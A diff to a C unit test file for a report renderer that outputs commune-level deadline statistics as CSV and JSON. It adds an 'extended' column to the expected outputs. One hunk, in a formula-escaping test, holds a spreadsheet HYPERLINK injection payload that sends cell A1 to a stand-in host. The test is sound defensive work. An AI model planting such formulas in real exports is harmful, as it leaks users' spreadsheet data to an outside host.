@@ -286,10 +286,10 @@ test_render(void **state)
 	csv = report_render_csv(&r);
 	assert_string_equal(csv, "unit,name,due,on_time,late,late_days,"
 	    "late_avg,overdue,overdue_days,not_yet_due,waived,"
-	    "rate=100*on_time/(due-waived-not_yet_due),undated\r\n"
-	    "phuocan,UBND xã Phước An,2,1,0,0,,0,0,0,1,100.0,2\r\n"
-	    "phuochoa,UBND xã Phước Hòa,2,0,1,3,3.0,1,2,0,0,0.0,1\r\n"
-	    "TOTAL,Tổng cộng,4,1,1,3,3.0,1,2,0,1,33.3,3\r\n");
+	    "rate=100*on_time/(due-waived-not_yet_due),undated,extended\r\n"
+	    "phuocan,UBND xã Phước An,2,1,0,0,,0,0,0,1,100.0,2,0\r\n"
+	    "phuochoa,UBND xã Phước Hòa,2,0,1,3,3.0,1,2,0,0,0.0,1,0\r\n"
+	    "TOTAL,Tổng cộng,4,1,1,3,3.0,1,2,0,1,33.3,3,0\r\n");
 	json = report_render_json(&r);
 	assert_non_null(doc = json_loads(json, 0, NULL));
 	u = json_array_get(json_object_get(doc, "units"), 0);
@@ -342,7 +342,7 @@ test_render_csv_formula(void **state)
 	r.total.late_avg10 = r.total.rate10 = -1;
 	csv = report_render_csv(&r);
 	assert_non_null(strstr(csv, "\r\nevil,\"'=HYPERLINK(\"\"http://"
-	    "x.invalid/?\"\"&A1,\"\"Phòng\"\")\",0,0,0,0,,0,0,0,0,,0\r\n"
+	    "x.invalid/?\"\"&A1,\"\"Phòng\"\")\",0,0,0,0,,0,0,0,0,,0,0\r\n"
 	    "TOTAL,'-,0,"));
 	free(csv);
 	free(rows[0].unit);
